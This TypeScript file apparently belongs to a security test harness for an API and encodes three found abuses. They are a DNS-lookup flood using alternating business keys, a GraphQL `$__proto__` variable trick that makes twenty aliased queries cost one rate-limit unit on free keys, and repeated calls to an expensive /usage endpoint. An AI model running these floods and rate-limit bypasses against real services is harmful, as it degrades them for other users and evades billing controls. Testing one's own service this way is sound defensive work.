import type { Subject } from '../attack.ts';
import { flood, inTurn, same } from '../deliveries.ts';
import { request, withQuery } from '../wire.ts';

const ALIASES = 20;

/**
 * Builds conditions on the variable `__proto__`: code that reads variables from plain objects gets a different value
 * than the executor.
 */
function prototypeQuery(): string {
  const fields = Array.from(
    { length: ALIASES - 1 },
    (_, index) =>
      `a${index}: countriesAll @skip(if: $__proto__) { items { name { common } translations { name } } }`,
  );
  return `query ($__proto__: Boolean!) { first: referenceHttpStatus(code: 404) { code } ${fields.join(' ')} }`;
}

/** Written by hand, because an object literal with `__proto__` would not contain it as a member. */
const PROTOTYPE_BODY = `{"query":${JSON.stringify(prototypeQuery())},"variables":{"__proto__":true}}`;

export const accounts: readonly Subject[] = [
  {
    name: 'noisy-neighbours',
    title: 'two accounts of plan business look up dead names',
    kind: 'found',
    live: true,
    attacks: [
      {
        name: 'dead-names',
        run: (target) => {
          const [one = '', other = ''] = target.keys.business;
          const lookUp = (count: number): Uint8Array =>
            request({
              path: withQuery('/dns-lookup/v1/check', { name: `n${count}.dead.example.com`, type: 'A' }),
              key: count % 2 === 0 ? one : other,
            });
          return flood(target, lookUp, { connections: 3_000 });
        },
      },
    ],
  },
  {
    name: 'proto-variable',
    title: '$__proto__ as a condition: twenty calls for one unit of the rate, with free keys',
    kind: 'found',
    attacks: [
      {
        name: 'proto',
        run: (target) => {
          const asked = target.keys.free.map((key) =>
            request({ path: '/graphql', key, body: PROTOTYPE_BODY }),
          );
          return flood(target, inTurn(asked), { connections: 8 });
        },
      },
    ],
  },
  {
    name: 'usage-rows',
    title: '/usage of an account with 247,000 rows, with a free key',
    kind: 'found',
    longUsage: true,
    attacks: [
      {
        name: 'usage',
        run: (target) =>
          flood(target, same(request({ path: '/usage', key: target.keys.free[0] })), { everyMs: 100 }),
      },
    ],
  },
];
